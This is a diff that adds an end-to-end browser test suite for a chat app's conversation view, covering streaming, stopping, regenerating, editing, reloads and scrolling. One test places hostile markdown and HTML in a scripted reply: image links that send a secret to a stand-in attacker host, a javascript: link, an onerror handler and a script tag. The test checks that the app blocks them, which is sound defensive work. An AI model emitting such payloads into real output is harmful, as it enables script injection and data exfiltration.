@@ -1,0 +1,255 @@
+import type { Page } from 'playwright-core'
+import { describe, expect, inject, test } from 'vitest'
+import { chatInBrowser, ended, gate, messageField, send } from './chat-in-browser.ts'
+import { haveTurns } from './running-chat.ts'
+
+/*
+ * Conversations in the chat app, at its own host: replies while they are written, and their branches.
+ */
+
+describe.skipIf(inject('chromium') === null)('a conversation', () => {
+  const { chat, page } = chatInBrowser()
+
+  const replies = (at: Page = page) => at.getByRole('article', { name: 'Reply' })
+  const questions = (at: Page = page) => at.getByRole('article', { name: 'Your message' })
+  const stop = (at: Page = page) => at.getByRole('button', { name: 'Stop' })
+
+  test('begins with a message, and shows the reply while it is written', async () => {
+    const held = gate()
+    chat.reply({
+      pieces: ['**Hello', '** there', held, ', friend'],
+      usage: { input: 30, output: 7 },
+    })
+    await page.goto(chat.start)
+    await send(page, 'Say hello')
+    await page.getByText('Hello there').waitFor()
+    await page.getByText('The model is writing a reply.').waitFor({ state: 'attached' })
+    await stop().waitFor()
+    expect(await replies().locator('strong').innerText()).toBe('Hello')
+    held.open()
+    await ended(page)
+    await page.getByText('The reply has ended.').waitFor({ state: 'attached' })
+    expect(await replies().last().innerText()).toContain('Hello there, friend')
+    expect(new URL(page.url()).pathname).toMatch(/\/c\/[\da-f-]{36}$/)
+    await expect.poll(() => page.title()).toContain('A scripted title')
+  })
+
+  test('shows model, tokens and cost of a reply, and leads to its trace', async () => {
+    const details = page.getByRole('list', { name: 'About this reply' })
+    await expect.poll(() => details.innerText()).toContain('30 → 7 tokens')
+    expect(await details.innerText()).toContain('$0.000044')
+    const isOpening = page.context().waitForEvent('page')
+    await details.getByRole('link', { name: 'Trace' }).click()
+    const trace = await isOpening
+    const traces = `${chat.tracing}/p/${chat.setUp.project.id}/traces`
+    await trace.waitForURL(new RegExp(`^${traces}/[\\da-f]{32}$`))
+    await trace.getByRole('heading', { name: 'chat' }).first().waitFor()
+    await trace.close()
+  })
+
+  test('has another reply beside the first, and steps between them, also after a reload', async () => {
+    chat.reply({ pieces: ['Second version'] })
+    await page.getByRole('button', { name: 'Regenerate reply' }).click()
+    await page.getByText('Second version').waitFor()
+    await page.getByText('2 of 2').waitFor()
+    await page.getByRole('button', { name: 'Previous version' }).click()
+    await page.getByText('Hello there, friend').waitFor()
+    await page.getByText('1 of 2').waitFor()
+    await page.reload()
+    await page.getByText('Hello there, friend').waitFor()
+    await page.getByText('1 of 2').waitFor()
+    await page.getByRole('button', { name: 'Next version' }).click()
+    await page.getByText('Second version').waitFor()
+    expect(await questions().count()).toBe(1)
+  })
+
+  test('keeps the first version of a message that is edited', async () => {
+    chat.reply({ pieces: ['Third version'] })
+    await questions().first().hover()
+    await page.getByRole('button', { name: 'Edit message' }).click()
+    const field = page.getByRole('textbox', { name: 'Edit message' })
+    await field.fill('Say it differently')
+    await field.press('Enter')
+    await page.getByText('Third version').waitFor()
+    await ended(page)
+    expect(await questions().innerText()).toContain('Say it differently')
+    await questions().getByRole('button', { name: 'Previous version' }).click()
+    await page.getByText('Second version').waitFor()
+    expect(await questions().innerText()).toContain('Say hello')
+  })
+
+  test('stops a reply with Escape, keeps what came, and goes on from it (cases 1 and 7)', async () => {
+    const never = gate()
+    chat.reply({ pieces: ['Partial answer', never] }, { pieces: ['Continued'] })
+    await send(page, 'Tell me a lot')
+    await page.getByText('Partial answer').waitFor()
+    await messageField(page).press('Escape')
+    await page.getByText('You stopped this reply.').waitFor()
+    await chat.scripted.idle()
+    await send(page, 'Go on')
+    await page.getByText('Continued').waitFor()
+    await ended(page)
+    expect(chat.replyCalls().at(-1)?.texts).toEqual(
+      expect.arrayContaining(['Tell me a lot', 'Partial answer', 'Go on']),
+    )
+    never.open()
+  })
+
+  test('stops a reply before its first token (case 2)', async () => {
+    const never = gate()
+    chat.reply({ pieces: [never, 'Too late'] })
+    await send(page, 'Wait for it')
+    await stop().click()
+    await expect.poll(() => page.getByText('You stopped this reply.').count()).toBe(2)
+    never.open()
+    expect(await page.getByText('Too late').count()).toBe(0)
+  })
+
+  test('is followed after a reload in the middle of a reply, once (cases 8 and 9)', async () => {
+    const held = gate()
+    chat.reply({ pieces: ['Before the reload', held, ' and after it'] })
+    await send(page, 'Survive this')
+    await page.getByText('Before the reload').waitFor()
+    const joins: string[] = []
+    page.on('request', (request) => {
+      if (/\/chat\/stream\/[^/]+$/.test(request.url())) joins.push(request.url())
+    })
+    await page.reload()
+    await page.getByText('Before the reload').waitFor()
+    held.open()
+    await page.getByText('Before the reload and after it', { exact: true }).waitFor()
+    await ended(page)
+    expect(await page.getByText('Before the reload').count()).toBe(1)
+    expect(joins).toHaveLength(1)
+  })
+
+  test('shows a reply that is written in two tabs', async () => {
+    const held = gate()
+    chat.reply({ pieces: ['In both', held, ' tabs'] })
+    await send(page, 'Show it twice')
+    await page.getByText('In both').waitFor()
+    const other = await chat.openAnother()
+    await other.page.goto(page.url())
+    await other.page.getByText('In both').waitFor()
+    held.open()
+    await other.page.getByText('In both tabs').waitFor()
+    await page.getByText('In both tabs').waitFor()
+    await other.context.close()
+  })
+
+  test('has its reply when a person comes back who left before the first token (case 6)', async () => {
+    const held = gate()
+    chat.reply({ pieces: [held, 'Meanwhile finished'] })
+    const address = page.url()
+    await send(page, 'I will be back')
+    await stop().waitFor()
+    await page.goto(chat.start)
+    await page.getByRole('heading', { name: 'New conversation' }).waitFor()
+    held.open()
+    await chat.scripted.idle()
+    await page.goto(address)
+    await page.getByText('Meanwhile finished').waitFor()
+    await ended(page)
+  })
+
+  test('shows why a reply failed, and tries again', async () => {
+    chat.reply(
+      { pieces: ['Half', { error: 'The server had an error.' }] },
+      { pieces: ['Now it works'] },
+    )
+    await send(page, 'Fail once')
+    const again = page.getByRole('button', { name: 'Try again' })
+    await again.waitFor()
+    await page.getByText('Half').waitFor()
+    const details = page.getByRole('list', { name: 'About this reply' }).last()
+    expect(await details.innerText()).not.toContain('—')
+    await again.click()
+    await page.getByText('Now it works').waitFor()
+    await ended(page)
+  })
+
+  test('folds the reasoning of a model', async () => {
+    chat.reply({ pieces: [{ reasoning: 'First I think.' }, 'Then I answer'] })
+    await send(page, 'Think')
+    await page.getByText('Then I answer').waitFor()
+    await ended(page)
+    expect(await page.getByText('First I think.').isVisible()).toBe(false)
+    await page.getByText('Reasoning', { exact: true }).click()
+    await page.getByText('First I think.').waitFor()
+  })
+
+  test('loads and runs nothing of a hostile reply (case 31)', async () => {
+    const requests: string[] = []
+    page.on('request', (request) => requests.push(request.url()))
+    chat.reply({
+      pieces: [
+        '![x](https://evil.test/?q=secret) [click](javascript:alert(1)) [site](https://evil.test/?q=1)',
+        '\n\n<img src="https://evil.test/raw" onerror="document.title=\'owned\'">',
+        '\n\n<script>document.title="owned"</script>',
+      ],
+    })
+    await send(page, 'Be evil')
+    await page.getByText('Image not loaded: x').waitFor()
+    await ended(page)
+    expect(requests.filter((url) => url.includes('evil.test'))).toEqual([])
+    expect(await page.title()).not.toContain('owned')
+    expect(await page.getByRole('link', { name: 'click' }).count()).toBe(0)
+    await page.getByRole('link', { name: 'site' }).click()
+    await page.getByRole('dialog', { name: 'Open this link?' }).waitFor()
+    await page.getByRole('dialog').getByText('https://evil.test/?q=1').waitFor()
+    await page.getByRole('button', { name: 'Cancel' }).click()
+    expect(requests.filter((url) => url.includes('evil.test'))).toEqual([])
+    expect(page.context().pages()).toHaveLength(1)
+  })
+
+  test('keeps the place of a person who scrolls up while a reply is written', async () => {
+    const [first, second] = [gate(), gate()]
+    const lines = (name: string) => Array.from({ length: 60 }, (_, n) => `${name} ${n}\n\n`)
+    chat.reply({ pieces: [...lines('one'), first, ...lines('two'), second, ...lines('three')] })
+    await send(page, 'Write a lot')
+    const viewport = page.getByLabel('Messages')
+    const fromEnd = () =>
+      viewport.evaluate((element) => {
+        const { scrollHeight, scrollTop, clientHeight } = element as unknown as {
+          readonly scrollHeight: number
+          readonly scrollTop: number
+          readonly clientHeight: number
+        }
+        return scrollHeight - scrollTop - clientHeight
+      })
+    await page.getByText('one 59').waitFor()
+    await expect.poll(fromEnd).toBeLessThan(5)
+    await viewport.hover()
+    await page.mouse.wheel(0, -600)
+    await expect.poll(fromEnd).toBeGreaterThan(300)
+    first.open()
+    await page.getByText('two 59').waitFor()
+    expect(await fromEnd()).toBeGreaterThan(600)
+    await page.getByRole('button', { name: 'Scroll to the end' }).click()
+    second.open()
+    await page.getByText('three 59').waitFor()
+    await expect.poll(fromEnd).toBeLessThan(5)
+    await ended(page)
+  })
+
+  test('shows its end, and earlier messages when they come near', async () => {
+    const id = await page.evaluate(haveTurns(chat.setUp, 25))
+    await page.goto(`${chat.start}/c/${String(id)}`)
+    await page.getByText('Turn 24', { exact: true }).waitFor()
+    expect(await page.getByText('Turn 0', { exact: true }).count()).toBe(0)
+    await page.getByLabel('Messages').hover()
+    await expect
+      .poll(async () => {
+        await page.mouse.wheel(0, -2000)
+        return page.getByText('Turn 0', { exact: true }).count()
+      })
+      .toBe(1)
+    expect(await questions().count()).toBe(25)
+    expect(await replies().count()).toBe(25)
+  })
+
+  test('violates no policy and logs no error', () => {
+    expect(chat.watched.faults).toEqual([])
+    expect(chat.service.log()).toBe('')
+  })
+})
